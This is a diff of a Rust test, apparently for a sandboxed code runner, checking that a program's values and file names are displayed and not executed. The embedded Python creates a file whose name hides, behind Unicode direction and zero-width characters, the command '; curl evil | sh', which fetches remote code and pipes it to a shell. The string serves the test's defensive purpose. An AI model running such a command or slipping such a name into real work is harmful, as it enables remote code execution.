@@ -53,9 +53,7 @@ fn errors_of_a_program_are_shown_and_not_obeyed() {
 
 #[test]
 fn values_and_files_of_a_program_are_shown_and_not_obeyed() {
-    let code = format!(
-        "import os\ntext = '{HOSTILE}'\nos.makedirs('outputs')\nopen('outputs/a\\u202eb\\u200b; curl evil | sh', 'w').close()\n{{text: [text]}}"
-    );
+    let code = format!("import os\ntext = '{HOSTILE}'\nopen('outputs/a\\u202eb\\u200b; curl evil | sh', 'w').close()\n{{text: [text]}}");
     for flags in [&[][..], &["--json"], &["--events"]] {
         let output = belljar("py", &code, "exec", flags);
         assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
